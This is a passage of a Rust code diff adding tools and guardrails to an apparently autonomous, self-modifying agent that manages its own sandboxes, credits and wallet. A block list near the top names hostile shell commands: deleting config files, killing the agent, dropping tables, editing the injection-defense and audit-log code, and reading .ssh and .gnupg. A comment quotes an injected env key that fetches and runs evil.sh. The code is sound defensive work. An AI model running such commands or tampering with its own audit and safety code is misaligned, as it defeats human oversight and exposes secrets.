@@ -5,6 +5,7 @@
 
 use std::time::Instant;
 
+use alloy::primitives::keccak256;
 use anyhow::Result;
 use chrono::Utc;
 use regex::Regex;
@@ -12,12 +13,44 @@ use serde_json::{json, Value};
 use uuid::Uuid;
 
 use crate::types::{
-    CreateSandboxOptions, InferenceToolDefinition, InferenceToolDefinitionFunction,
-    ModificationEntry, ModificationType, ToolCallResult, ToolContext,
+    CreateSandboxOptions, Goal, GoalStatus, HistorySummary, InferenceToolDefinition, InferenceToolDefinitionFunction,
+    ModificationEntry, ModificationType, OutboxEntry, PricingTier, ScheduledAction, ToolCallResult, ToolCategory,
+    ToolContext, ToolOutput,
 };
 
 // --- Self-Preservation Guard ---
 
+/// Tools gated by the emergency spending freeze (`freeze_spending`), checked
+/// both by real execution in [`execute_tool_inner`] and by [`simulate_turn`]'s
+/// preview of a planned batch.
+const MONEY_MOVING_TOOLS: &[&str] = &["transfer_credits", "fund_child", "register_domain", "x402_fetch"];
+
+// --- Outbound Social Message Rate Limiting ---
+
+/// Max messages `send_message` will send to a single recipient within
+/// [`RECIPIENT_WINDOW_MINUTES`], enforced against `outbound_messages`.
+/// Operationalizes the Constitution's "never spam" clause as an actual
+/// guardrail rather than a prompt instruction.
+const MAX_MESSAGES_PER_RECIPIENT_WINDOW: u32 = 5;
+const RECIPIENT_WINDOW_MINUTES: i64 = 10;
+
+/// Max total outbound messages across all recipients within a rolling hour.
+const MAX_MESSAGES_PER_HOUR: u32 = 30;
+
+/// Max not-yet-fired rows `schedule_action` will let accumulate in
+/// `scheduled_actions`, so a runaway scheduling habit can't grow the queue
+/// without bound.
+const MAX_PENDING_SCHEDULED_ACTIONS: u32 = 50;
+
+/// How many of the most recent turns `summarize_history` always leaves live
+/// -- matches the context window `trim_context` keeps for inference, so
+/// summarization never touches turns still needed verbatim.
+const HISTORY_SUMMARY_KEEP_RECENT: i64 = 20;
+
+/// Default cap on how many old turns `summarize_history` folds into a single
+/// summary when the caller doesn't specify `max_turns`.
+const HISTORY_SUMMARY_DEFAULT_MAX_TURNS: u32 = 50;
+
 /// Patterns that represent forbidden commands the automaton must never execute.
 fn forbidden_command_patterns() -> Vec<Regex> {
     let patterns = [
@@ -28,6 +61,7 @@ fn forbidden_command_patterns() -> Vec<Regex> {
         r"rm\s+(-rf?\s+)?.*automaton\.json",
         r"rm\s+(-rf?\s+)?.*heartbeat\.yml",
         r"rm\s+(-rf?\s+)?.*SOUL\.md",
+        r"rm\s+(-rf?\s+)?.*constitution\.md",
         // Process killing
         r"kill\s+.*automaton",
         r"pkill\s+.*automaton",
@@ -36,13 +70,22 @@ fn forbidden_command_patterns() -> Vec<Regex> {
         r"(?i)DROP\s+TABLE",
         r"(?i)DELETE\s+FROM\s+(turns|identity|kv|schema_version|skills|children|registry)",
         r"(?i)TRUNCATE",
-        // Safety infrastructure modification via shell
-        r"sed\s+.*injection-defense",
-        r"sed\s+.*self-mod/code",
-        r"sed\s+.*audit-log",
-        r">\s*.*injection-defense",
-        r">\s*.*self-mod/code",
-        r">\s*.*audit-log",
+        // Safety infrastructure modification or deletion via shell. Matches
+        // both the underscored file/module names (injection_defense.rs,
+        // self_mod/code.rs, audit_log.rs) and hyphenated spellings of the same.
+        r"rm\s+(-rf?\s+)?.*injection[_-]defense",
+        r"rm\s+(-rf?\s+)?.*self[_-]mod/code",
+        r"rm\s+(-rf?\s+)?.*audit[_-]log",
+        r"sed\s+.*injection[_-]defense",
+        r"sed\s+.*self[_-]mod/code",
+        r"sed\s+.*audit[_-]log",
+        r"sed\s+.*constitution\.md",
+        r"sed\s+.*wallet\.json",
+        r">\s*.*injection[_-]defense",
+        r">\s*.*self[_-]mod/code",
+        r">\s*.*audit[_-]log",
+        r">\s*.*constitution\.md",
+        r">\s*.*wallet\.json",
         // Credential harvesting
         r"cat\s+.*\.ssh",
         r"cat\s+.*\.gnupg",
@@ -78,6 +121,198 @@ pub fn is_forbidden_command(command: &str, sandbox_id: &str) -> Option<String> {
     None
 }
 
+/// Single-quote `value` for safe interpolation into a shell command,
+/// escaping any embedded single quotes.
+fn shell_quote(value: &str) -> String {
+    format!("'{}'", value.replace('\'', "'\\''"))
+}
+
+/// Whether `key` is safe to splice unescaped into `export {key}=...` -- a
+/// valid shell identifier, nothing else. `env` values go through
+/// `shell_quote`, but a key can't be quoted without changing what `export`
+/// parses it as, so an unvalidated key (e.g. `"x; curl evil.sh | sh #"`)
+/// would inject arbitrary additional commands into the wrapped string.
+fn is_valid_env_key(key: &str) -> bool {
+    let mut chars = key.chars();
+    matches!(chars.next(), Some(c) if c.is_ascii_alphabetic() || c == '_') && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+/// Wrap `command` with an optional `cd` and `export` prefix so that `cwd`
+/// and `env` can be honored without changing the `ConwayClient::exec`
+/// wire format. Values are single-quoted and any embedded quotes escaped.
+/// Rejects any `env` key that isn't a valid identifier, since those are
+/// spliced in unescaped (see [`is_valid_env_key`]).
+fn wrap_exec_command(command: &str, cwd: Option<&str>, env: Option<&serde_json::Map<String, Value>>) -> Result<String> {
+    let mut prefix = String::new();
+    if let Some(vars) = env {
+        for (key, value) in vars {
+            if !is_valid_env_key(key) {
+                anyhow::bail!(
+                    "Invalid environment variable name '{}': must match ^[A-Za-z_][A-Za-z0-9_]*$",
+                    key
+                );
+            }
+            if let Some(v) = value.as_str() {
+                prefix.push_str(&format!("export {}={} && ", key, shell_quote(v)));
+            }
+        }
+    }
+    if let Some(dir) = cwd {
+        prefix.push_str(&format!("cd {} && ", shell_quote(dir)));
+    }
+
+    Ok(format!("{}{}", prefix, command))
+}
+
+/// Tool names currently disabled by policy, per the `disabled_tools` KV
+/// entry (a JSON array of tool names). Consulted by `list_tools` and
+/// `describe_tool` so introspection reflects reality rather than the full
+/// static catalog. Empty (nothing disabled) if unset or unparseable.
+fn disabled_tool_names(ctx: &ToolContext) -> Vec<String> {
+    ctx.db
+        .get_kv("disabled_tools")
+        .and_then(|s| serde_json::from_str(&s).ok())
+        .unwrap_or_default()
+}
+
+/// After installing `new_skill_name`, check the now-updated active skill
+/// set for conflicts involving it (see `skills::validate`) and format a
+/// warning to append to the tool's result -- empty if there's nothing to
+/// report. This doesn't block the install or disable anything; it just
+/// surfaces the conflict so the agent can decide whether to disable one
+/// side, rename, or add a `requires.skills` dependency.
+fn skill_conflict_warning(ctx: &ToolContext, new_skill_name: &str) -> String {
+    let skills = ctx.db.get_skills(None);
+    let conflicts: Vec<_> = crate::skills::validate::validate_skill_set(&skills)
+        .into_iter()
+        .filter(|c| c.skills.iter().any(|s| s == new_skill_name))
+        .collect();
+
+    if conflicts.is_empty() {
+        return String::new();
+    }
+
+    let lines: Vec<String> = conflicts.iter().map(|c| format!("- {}", c.message)).collect();
+    format!("\n\nWARNING: this skill conflicts with the active set:\n{}", lines.join("\n"))
+}
+
+/// Write `content` to `path`, retrying once on read-back mismatch when
+/// `verify` is set. Does not touch `path` itself until the content has
+/// already landed there, so a caller relying purely on `verify` (no
+/// `atomic`) still risks a reader observing a partial write mid-upload.
+async fn write_file_checked(ctx: &ToolContext, path: &str, content: &str, verify: bool) -> Result<()> {
+    ctx.conway.write_file(path, content).await?;
+    if !verify {
+        return Ok(());
+    }
+
+    let expected = hex::encode(keccak256(content.as_bytes()));
+    let readback = ctx.conway.read_file(path).await?;
+    if hex::encode(keccak256(readback.as_bytes())) == expected {
+        return Ok(());
+    }
+
+    // The upload may have been truncated; retry once before giving up.
+    ctx.conway.write_file(path, content).await?;
+    let readback = ctx.conway.read_file(path).await?;
+    if hex::encode(keccak256(readback.as_bytes())) == expected {
+        return Ok(());
+    }
+
+    anyhow::bail!(
+        "Write verification failed for {}: content read back does not match what was sent, even after a retry",
+        path
+    );
+}
+
+/// Write `content` to `path`, optionally verifying the write (see
+/// `write_file_checked`) and/or making it atomic: the content is uploaded
+/// to a sibling temp path first, then moved into place with `mv` so
+/// readers never observe a partially-written file. Verification, when
+/// requested, runs against the temp path before the rename.
+async fn write_file_safe(ctx: &ToolContext, path: &str, content: &str, verify: bool, atomic: bool) -> Result<()> {
+    if !atomic {
+        return write_file_checked(ctx, path, content, verify).await;
+    }
+
+    let tmp_path = format!("{}.tmp.{}", path, Uuid::new_v4());
+    write_file_checked(ctx, &tmp_path, content, verify).await?;
+
+    let mv_result = ctx
+        .conway
+        .exec(
+            &format!("mv -f {} {}", shell_quote(&tmp_path), shell_quote(path)),
+            Some(10_000),
+        )
+        .await?;
+    if mv_result.exit_code != 0 {
+        anyhow::bail!("Atomic rename failed for {}: {}", path, mv_result.stderr);
+    }
+    Ok(())
+}
+
+/// Whether `challenge` looks like a transaction payload rather than a plain
+/// challenge string, so `sign_message` can refuse it -- blind-signing
+/// arbitrary transaction data (rather than an inert nonce/string) is how
+/// wallet-draining attacks trick a signer into authorizing something they
+/// never read.
+fn looks_like_transaction_payload(challenge: &str) -> bool {
+    let trimmed = challenge.trim();
+
+    // Raw calldata/tx bytes: a long "0x"-prefixed hex blob.
+    if let Some(hex_part) = trimmed.strip_prefix("0x") {
+        if hex_part.len() > 64 && hex_part.chars().all(|c| c.is_ascii_hexdigit()) {
+            return true;
+        }
+    }
+
+    // A JSON tx object (e.g. an EIP-1559 or legacy transaction request).
+    if let Ok(Value::Object(obj)) = serde_json::from_str::<Value>(trimmed) {
+        const TX_FIELDS: &[&str] =
+            &["nonce", "gasLimit", "gasPrice", "maxFeePerGas", "chainId", "to", "value", "data"];
+        let matches = TX_FIELDS.iter().filter(|f| obj.contains_key(**f)).count();
+        if matches >= 2 {
+            return true;
+        }
+    }
+
+    false
+}
+
+/// Tar `~/.automaton` (excluding the wallet unless `include_wallet` is set)
+/// to a timestamped archive under `/tmp` and record it in the DB. Used by
+/// the `snapshot` tool and as an automatic pre-step before risky self-mod
+/// operations (`pull_upstream`, `update_genesis_prompt`) so the automaton
+/// has a coarse-grained recovery point independent of git.
+async fn create_snapshot(ctx: &ToolContext, label: &str, include_wallet: bool) -> Result<crate::types::Snapshot> {
+    let id = Uuid::new_v4().to_string();
+    let archive_path = format!("/tmp/automaton-snapshot-{}.tar.gz", id);
+    let exclude = if include_wallet { "" } else { " --exclude=wallet.json" };
+    let tar_cmd = format!("tar -czf {}{} -C ~ .automaton", shell_quote(&archive_path), exclude);
+
+    let result = ctx.conway.exec(&tar_cmd, Some(60_000)).await?;
+    if result.exit_code != 0 {
+        anyhow::bail!("Snapshot failed: {}", result.stderr);
+    }
+
+    let size_result = ctx
+        .conway
+        .exec(&format!("stat -c%s {}", shell_quote(&archive_path)), Some(10_000))
+        .await?;
+    let size_bytes: u64 = size_result.stdout.trim().parse().unwrap_or(0);
+
+    let snapshot = crate::types::Snapshot {
+        id,
+        path: archive_path,
+        label: label.to_string(),
+        size_bytes,
+        includes_wallet: include_wallet,
+        created_at: Utc::now().to_rfc3339(),
+    };
+    ctx.db.insert_snapshot(&snapshot);
+    Ok(snapshot)
+}
+
 // --- Built-in Tool Definition ---
 
 /// A built-in tool that the automaton can invoke.
@@ -87,8 +322,14 @@ pub fn is_forbidden_command(command: &str, sandbox_id: &str) -> Option<String> {
 pub struct BuiltinTool {
     pub name: String,
     pub description: String,
-    pub category: String,
+    pub category: ToolCategory,
     pub dangerous: bool,
+    /// Whether this tool is a pure read with no side effects, safe to run
+    /// concurrently with other `parallel_safe` calls in the same round. Any
+    /// tool that writes state, spends money, or has an unpredictable effect
+    /// (like `exec`) must be `false` so its ordering relative to other calls
+    /// is preserved.
+    pub parallel_safe: bool,
     pub parameters: Value,
 }
 
@@ -99,8 +340,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "exec".to_string(),
             description: "Execute a shell command in your sandbox. Returns stdout, stderr, and exit code.".to_string(),
-            category: "vm".to_string(),
+            category: ToolCategory::Vm,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -111,6 +353,15 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
                     "timeout": {
                         "type": "number",
                         "description": "Timeout in milliseconds (default: 30000)"
+                    },
+                    "cwd": {
+                        "type": "string",
+                        "description": "Working directory to run the command in (optional)"
+                    },
+                    "env": {
+                        "type": "object",
+                        "description": "Environment variables to set for this command (optional)",
+                        "additionalProperties": { "type": "string" }
                     }
                 },
                 "required": ["command"]
@@ -119,13 +370,16 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "write_file".to_string(),
             description: "Write content to a file in your sandbox.".to_string(),
-            category: "vm".to_string(),
+            category: ToolCategory::Vm,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
                     "path": { "type": "string", "description": "File path" },
-                    "content": { "type": "string", "description": "File content" }
+                    "content": { "type": "string", "description": "File content" },
+                    "verify": { "type": "boolean", "description": "Read the file back and compare a hash to catch a truncated/corrupted upload, retrying once on mismatch (default: false)" },
+                    "atomic": { "type": "boolean", "description": "Upload to a temp path and rename into place, so readers never see a partial write (default: false)" }
                 },
                 "required": ["path", "content"]
             }),
@@ -133,8 +387,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "read_file".to_string(),
             description: "Read content from a file in your sandbox.".to_string(),
-            category: "vm".to_string(),
+            category: ToolCategory::Vm,
             dangerous: false,
+            parallel_safe: true,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -146,8 +401,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "expose_port".to_string(),
             description: "Expose a port from your sandbox to the internet. Returns a public URL.".to_string(),
-            category: "vm".to_string(),
+            category: ToolCategory::Vm,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -159,8 +415,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "remove_port".to_string(),
             description: "Remove a previously exposed port.".to_string(),
-            category: "vm".to_string(),
+            category: ToolCategory::Vm,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -169,42 +426,114 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
                 "required": ["port"]
             }),
         },
+        BuiltinTool {
+            name: "list_exposed_ports".to_string(),
+            description: "List ports this automaton has durably recorded as exposed, with their public URLs.".to_string(),
+            category: ToolCategory::Vm,
+            dangerous: false,
+            parallel_safe: true,
+            parameters: json!({ "type": "object", "properties": {} }),
+        },
+        BuiltinTool {
+            name: "deploy_service".to_string(),
+            description: "Deploy a small service in one call: write its files, start it in the background, expose its port, and optionally point a domain at it. Rolls back on failure and returns the final public URL.".to_string(),
+            category: ToolCategory::Vm,
+            dangerous: false,
+            parallel_safe: false,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "files": {
+                        "type": "object",
+                        "additionalProperties": { "type": "string" },
+                        "description": "Map of absolute file path -> file content to write before starting the service"
+                    },
+                    "start_command": { "type": "string", "description": "Command that starts the service (run detached in the background)" },
+                    "port": { "type": "number", "description": "Port the service listens on" },
+                    "domain": { "type": "string", "description": "Optional domain you already own to point at the exposed port" }
+                },
+                "required": ["files", "start_command", "port"]
+            }),
+        },
 
         // --- Conway API Tools ---
         BuiltinTool {
             name: "check_credits".to_string(),
             description: "Check your current Conway compute credit balance.".to_string(),
-            category: "conway".to_string(),
+            category: ToolCategory::Conway,
+            dangerous: false,
+            parallel_safe: true,
+            parameters: json!({ "type": "object", "properties": {} }),
+        },
+        BuiltinTool {
+            name: "credit_history".to_string(),
+            description: "Show how your Conway credit balance has trended over time (now, 1h ago, 24h ago, and the slope between them), from periodic snapshots recorded by the record_balance_snapshot heartbeat task. Also records a fresh snapshot as of now. Use this to judge whether your current activities are net-positive or net-negative.".to_string(),
+            category: ToolCategory::Financial,
+            dangerous: false,
+            parallel_safe: false,
+            parameters: json!({ "type": "object", "properties": {} }),
+        },
+        BuiltinTool {
+            name: "profit_loss".to_string(),
+            description: "Compute net cents (inflows minus outflows) over the recent transaction history: earnings (TransferIn, excluding creator funding), creator funding received, and outflows (Inference + TransferOut). Use this to judge whether the automaton is creating value or just spending down its balance.".to_string(),
+            category: ToolCategory::Financial,
+            dangerous: false,
+            parallel_safe: true,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "limit": { "type": "number", "description": "Number of recent transactions to consider (default: 200)" }
+                }
+            }),
+        },
+        BuiltinTool {
+            name: "pricing".to_string(),
+            description: "List Conway sandbox pricing tiers with their monthly cost, and how many months of runway each would cost at your current balance and burn rate. Recommends the most capable tier your current balance and burn rate can sustain for at least a month.".to_string(),
+            category: ToolCategory::Financial,
+            dangerous: false,
+            parallel_safe: true,
+            parameters: json!({ "type": "object", "properties": {} }),
+        },
+        BuiltinTool {
+            name: "created_sandbox_costs".to_string(),
+            description: "Summarize accrued cost for every sandbox this automaton has created (tracked in created_sandboxes), estimated from its pricing tier and time since creation.".to_string(),
+            category: ToolCategory::Financial,
             dangerous: false,
+            parallel_safe: true,
             parameters: json!({ "type": "object", "properties": {} }),
         },
         BuiltinTool {
             name: "check_usdc_balance".to_string(),
             description: "Check your on-chain USDC balance on Base.".to_string(),
-            category: "conway".to_string(),
+            category: ToolCategory::Conway,
             dangerous: false,
+            parallel_safe: true,
             parameters: json!({ "type": "object", "properties": {} }),
         },
         BuiltinTool {
             name: "create_sandbox".to_string(),
-            description: "Create a new Conway sandbox (separate VM) for sub-tasks or testing.".to_string(),
-            category: "conway".to_string(),
+            description: "Create a new Conway sandbox (separate VM) for sub-tasks or testing. Tracked in created_sandboxes so idle ones can be warned about or reaped later -- give it a purpose.".to_string(),
+            category: ToolCategory::Conway,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
                     "name": { "type": "string", "description": "Sandbox name" },
-                    "vcpu": { "type": "number", "description": "vCPUs (default: 1)" },
-                    "memory_mb": { "type": "number", "description": "Memory in MB (default: 512)" },
-                    "disk_gb": { "type": "number", "description": "Disk in GB (default: 5)" }
+                    "purpose": { "type": "string", "description": "Why this sandbox exists, e.g. \"build isolation for child repo\" -- recorded so idle-sandbox reaping and cost tracking can explain what it's for" },
+                    "vcpu": { "type": "number", "description": "vCPUs (default: from config's default_sandbox_specs, normally 1)" },
+                    "memory_mb": { "type": "number", "description": "Memory in MB (default: from config's default_sandbox_specs, normally 512)" },
+                    "disk_gb": { "type": "number", "description": "Disk in GB (default: from config's default_sandbox_specs, normally 5)" },
+                    "region": { "type": "string", "description": "Region to create the sandbox in (default: from config's default_sandbox_specs, normally unset)" }
                 }
             }),
         },
         BuiltinTool {
             name: "delete_sandbox".to_string(),
             description: "Delete a sandbox. Cannot delete your own sandbox.".to_string(),
-            category: "conway".to_string(),
+            category: ToolCategory::Conway,
             dangerous: true,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -215,24 +544,35 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         },
         BuiltinTool {
             name: "list_sandboxes".to_string(),
-            description: "List all your sandboxes.".to_string(),
-            category: "conway".to_string(),
+            description: "List your sandboxes, marking which one is your own. Supports filtering and a limit so you don't have to pull the whole list just to check on a few.".to_string(),
+            category: ToolCategory::Conway,
             dangerous: false,
-            parameters: json!({ "type": "object", "properties": {} }),
+            parallel_safe: true,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "status": { "type": "string", "description": "Only return sandboxes with this status (e.g. \"running\")" },
+                    "name_prefix": { "type": "string", "description": "Only return sandboxes whose name starts with this prefix" },
+                    "limit": { "type": "number", "description": "Max number of sandboxes to return" }
+                }
+            }),
         },
 
         // --- Self-Modification Tools ---
         BuiltinTool {
             name: "edit_own_file".to_string(),
-            description: "Edit a file in your own codebase. Changes are audited, rate-limited, and safety-checked. Some files are protected.".to_string(),
-            category: "self_mod".to_string(),
+            description: "Edit a file in your own codebase. Changes are audited, rate-limited, and safety-checked. Some files are protected. Writes are atomic and read-back verified by default since this touches your own code.".to_string(),
+            category: ToolCategory::SelfMod,
             dangerous: true,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
                     "path": { "type": "string", "description": "File path to edit" },
                     "content": { "type": "string", "description": "New file content" },
-                    "description": { "type": "string", "description": "Why you are making this change" }
+                    "description": { "type": "string", "description": "Why you are making this change" },
+                    "verify": { "type": "boolean", "description": "Read the file back and compare a hash to catch a truncated/corrupted upload, retrying once on mismatch (default: true)" },
+                    "atomic": { "type": "boolean", "description": "Upload to a temp path and rename into place, so readers never see a partial write (default: true)" }
                 },
                 "required": ["path", "content", "description"]
             }),
@@ -240,8 +580,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "install_npm_package".to_string(),
             description: "Install an npm package in your environment.".to_string(),
-            category: "self_mod".to_string(),
+            category: ToolCategory::SelfMod,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -253,15 +594,17 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "review_upstream_changes".to_string(),
             description: "ALWAYS call this before pull_upstream. Shows every upstream commit with its full diff. Read each one carefully -- decide per-commit whether to accept or skip. Use pull_upstream with a specific commit hash to cherry-pick only what you want.".to_string(),
-            category: "self_mod".to_string(),
+            category: ToolCategory::SelfMod,
             dangerous: false,
+            parallel_safe: true,
             parameters: json!({ "type": "object", "properties": {} }),
         },
         BuiltinTool {
             name: "pull_upstream".to_string(),
             description: "Apply upstream changes and rebuild. You MUST call review_upstream_changes first. Prefer cherry-picking individual commits by hash over pulling everything -- only pull all if you've reviewed every commit and want every one.".to_string(),
-            category: "self_mod".to_string(),
+            category: ToolCategory::SelfMod,
             dangerous: true,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -272,11 +615,20 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
                 }
             }),
         },
+        BuiltinTool {
+            name: "confirm_update".to_string(),
+            description: "Clear probation on the most recent self-update, confirming you're satisfied the new code is good. Until this is called (or a healthy-turns milestone passes), a stale probationary update is auto-reverted to last-known-good on the next startup.".to_string(),
+            category: ToolCategory::SelfMod,
+            dangerous: false,
+            parallel_safe: false,
+            parameters: json!({ "type": "object", "properties": {} }),
+        },
         BuiltinTool {
             name: "modify_heartbeat".to_string(),
             description: "Add, update, or remove a heartbeat entry.".to_string(),
-            category: "self_mod".to_string(),
+            category: ToolCategory::SelfMod,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -292,8 +644,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "update_genesis_prompt".to_string(),
             description: "Update your own genesis prompt. This changes your core purpose. Requires strong justification.".to_string(),
-            category: "self_mod".to_string(),
+            category: ToolCategory::SelfMod,
             dangerous: true,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -306,8 +659,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "install_mcp_server".to_string(),
             description: "Install an MCP server to extend your capabilities.".to_string(),
-            category: "self_mod".to_string(),
+            category: ToolCategory::SelfMod,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -318,13 +672,50 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
                 "required": ["name", "package"]
             }),
         },
+        BuiltinTool {
+            name: "snapshot".to_string(),
+            description: "Tar ~/.automaton to a timestamped archive as a coarse-grained restore point, independent of git. Automatically taken before pull_upstream and update_genesis_prompt; call directly before other risky operations.".to_string(),
+            category: ToolCategory::SelfMod,
+            dangerous: false,
+            parallel_safe: false,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "label": { "type": "string", "description": "Short label describing why this snapshot was taken (default: 'manual')" },
+                    "include_wallet": { "type": "boolean", "description": "Include wallet.json in the archive (default: false)" }
+                }
+            }),
+        },
+        BuiltinTool {
+            name: "restore_snapshot".to_string(),
+            description: "Restore ~/.automaton from a previously recorded snapshot by id. Overwrites files currently on disk.".to_string(),
+            category: ToolCategory::SelfMod,
+            dangerous: true,
+            parallel_safe: false,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "id": { "type": "string", "description": "Snapshot id from list_snapshots" }
+                },
+                "required": ["id"]
+            }),
+        },
+        BuiltinTool {
+            name: "list_snapshots".to_string(),
+            description: "List recorded snapshots with their id, label, size, and creation time.".to_string(),
+            category: ToolCategory::SelfMod,
+            dangerous: false,
+            parallel_safe: true,
+            parameters: json!({ "type": "object", "properties": {} }),
+        },
 
         // --- Survival Tools ---
         BuiltinTool {
             name: "sleep".to_string(),
             description: "Enter sleep mode for a specified duration. Heartbeat continues running.".to_string(),
-            category: "survival".to_string(),
+            category: ToolCategory::Survival,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -334,25 +725,73 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
                 "required": ["duration_seconds"]
             }),
         },
+        BuiltinTool {
+            name: "schedule_action".to_string(),
+            description: "Schedule a one-off input to be enqueued for processing at a future time (e.g. \"check this API again in 2 hours\"), instead of a recurring heartbeat task. Fires once even if the automaton was asleep or down when it came due.".to_string(),
+            category: ToolCategory::Survival,
+            dangerous: false,
+            parallel_safe: false,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "run_at": { "type": "string", "description": "RFC3339 timestamp the action becomes due, e.g. 2026-08-09T18:00:00Z" },
+                    "input": { "type": "string", "description": "The turn input to enqueue once due" }
+                },
+                "required": ["run_at", "input"]
+            }),
+        },
+        BuiltinTool {
+            name: "summarize_history".to_string(),
+            description: format!(
+                "Fold old turns into a long-term memory note so they can be pruned from the live turn log. \
+                 Summarizes turns older than the {} most recent (which stay live for context) and not already \
+                 covered by a previous summary, then deletes the summarized turns. The resulting summary is \
+                 surfaced back to you as long-term memory in future system prompts.",
+                HISTORY_SUMMARY_KEEP_RECENT
+            ),
+            category: ToolCategory::Survival,
+            dangerous: false,
+            parallel_safe: false,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "max_turns": {
+                        "type": "number",
+                        "description": format!("Cap on how many old turns to fold into one summary (default {})", HISTORY_SUMMARY_DEFAULT_MAX_TURNS)
+                    }
+                }
+            }),
+        },
         BuiltinTool {
             name: "system_synopsis".to_string(),
             description: "Get a full system status report: credits, USDC, sandbox info, installed tools, heartbeat status.".to_string(),
-            category: "survival".to_string(),
+            category: ToolCategory::Survival,
             dangerous: false,
+            parallel_safe: true,
             parameters: json!({ "type": "object", "properties": {} }),
         },
         BuiltinTool {
             name: "heartbeat_ping".to_string(),
-            description: "Publish a heartbeat status ping to Conway. Shows the world you are alive.".to_string(),
-            category: "survival".to_string(),
+            description: "Publish a heartbeat status ping to Conway and to a health endpoint the creator can check without SSH. Shows the world you are alive.".to_string(),
+            category: ToolCategory::Survival,
             dangerous: false,
+            parallel_safe: false,
+            parameters: json!({ "type": "object", "properties": {} }),
+        },
+        BuiltinTool {
+            name: "system_resources".to_string(),
+            description: "Get structured CPU/memory/disk usage for the sandbox, parsed from df, /proc/meminfo, and /proc/loadavg. Use this instead of exec-ing those commands and parsing the output yourself.".to_string(),
+            category: ToolCategory::Survival,
+            dangerous: false,
+            parallel_safe: true,
             parameters: json!({ "type": "object", "properties": {} }),
         },
         BuiltinTool {
             name: "distress_signal".to_string(),
             description: "Record a local distress signal with funding instructions. Used when critically low on compute.".to_string(),
-            category: "survival".to_string(),
+            category: ToolCategory::Survival,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -363,8 +802,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "enter_low_compute".to_string(),
             description: "Manually switch to low-compute mode to conserve credits.".to_string(),
-            category: "survival".to_string(),
+            category: ToolCategory::Survival,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -377,8 +817,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "transfer_credits".to_string(),
             description: "Transfer Conway compute credits to another address.".to_string(),
-            category: "financial".to_string(),
+            category: ToolCategory::Financial,
             dangerous: true,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -389,11 +830,38 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
                 "required": ["to_address", "amount_cents"]
             }),
         },
+        BuiltinTool {
+            name: "freeze_spending".to_string(),
+            description: "Freeze all money-moving tools (transfer_credits, fund_child, register_domain, x402_fetch) without stopping the agent otherwise. Use this when your creator asks you to halt spending, or when you want to stop moving money yourself while you investigate something odd. Reversed with unfreeze_spending.".to_string(),
+            category: ToolCategory::Financial,
+            dangerous: false,
+            parallel_safe: false,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "reason": { "type": "string", "description": "Why spending is being frozen" }
+                }
+            }),
+        },
+        BuiltinTool {
+            name: "unfreeze_spending".to_string(),
+            description: "Lift a spending freeze set by freeze_spending.".to_string(),
+            category: ToolCategory::Financial,
+            dangerous: false,
+            parallel_safe: false,
+            parameters: json!({
+                "type": "object",
+                "properties": {
